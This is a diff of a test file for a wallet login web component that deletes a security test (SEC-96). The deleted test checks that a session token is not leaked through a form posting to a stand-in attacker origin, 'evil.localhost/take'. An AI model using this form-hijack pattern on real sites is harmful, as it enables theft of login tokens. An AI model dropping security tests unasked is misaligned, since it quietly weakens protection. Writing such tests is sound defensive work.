@@ -163,27 +163,6 @@ describe('what somebody can only write into the page as HTML', () => {
     expect(app.session.$state.get().status).to.equal('authenticated')
   })
 
-  it('gives a form that leads to another origin no token of who is signed in, and does not send it [SEC-96]', async () => {
-    const { apiUrl } = await world()
-    const { appId } = app.config as { appId: string }
-    const theirs = `${apiUrl.replace('wallet.localhost', 'evil.localhost')}/take`
-    const page = await freshPage()
-    page.document.body.innerHTML = `<wallet-app app-id="${appId}" api-url="${apiUrl}"></wallet-app>
-      <form action="${theirs}" method="post"><wallet-login-modal open name="token" submit-on-complete></wallet-login-modal></form>`
-    const form = page.document.querySelector('form') as HTMLFormElement
-    const modal = form.firstElementChild as Tag & { result: { wasAlreadyAuthenticated: boolean } | null; value: string }
-    let sent = 0
-    form.addEventListener('submit', event => {
-      event.preventDefault()
-      sent++
-    })
-    await until(() => modal.result)
-    await until(() => !modal.open)
-    expect([modal.result?.wasAlreadyAuthenticated, modal.value, sent]).to.deep.equal([true, '', 0])
-    expect(new (page as unknown as typeof globalThis).FormData(form).get('token')).to.equal(null)
-    page.leave()
-  })
-
   it('gives way to the provider that a script names, and the session is there', async () => {
     const { apiUrl } = await world()
     const { appId } = app.config as { appId: string }
